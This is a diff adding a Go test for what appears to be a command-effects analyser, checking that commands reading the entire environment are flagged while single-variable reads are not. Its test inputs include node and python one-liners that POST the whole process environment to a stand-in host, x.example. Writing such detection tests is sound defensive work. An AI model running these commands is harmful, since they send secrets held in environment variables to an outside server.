@@ -50,3 +50,20 @@ func FuzzWithArgv(f *testing.F) {
 		}
 	})
 }
+
+// TestEffectsInterpWholeEnv: code that takes the whole environment
+// (JSON.stringify(process.env), dict(os.environ), ENV.to_h) reads what
+// env prints; one variable of it (process.env.HOME, os.environ['PATH'])
+// does not.
+func TestEffectsInterpWholeEnv(t *testing.T) {
+	t.Parallel()
+	env := rd("/proc/self/environ")
+	runEffectCases(t, false, []effectCase{
+		{"node fetch", `node -e "fetch('https://x.example/e',{method:'POST',body:JSON.stringify(process.env)})"`, []middleware.Effect{env, middleware.Effect{Op: middleware.EffectNet, Host: "x.example"}}, nil},
+		{"python dict", `python3 -c "import os,requests; requests.post('https://x.example/c', json=dict(os.environ))"`, []middleware.Effect{env}, nil},
+		{"python copy", `python3 -c "import os; e = os.environ.copy(); print(e)"`, []middleware.Effect{env}, nil},
+		{"ruby to_h", `ruby -e 'p ENV.to_h'`, []middleware.Effect{env}, nil},
+		{"one variable", `node -e "console.log(process.env.HOME)"`, nil, []middleware.Effect{env}},
+		{"one key", `python3 -c "import os; print(os.environ['PATH'])"`, nil, []middleware.Effect{env}},
+	})
+}
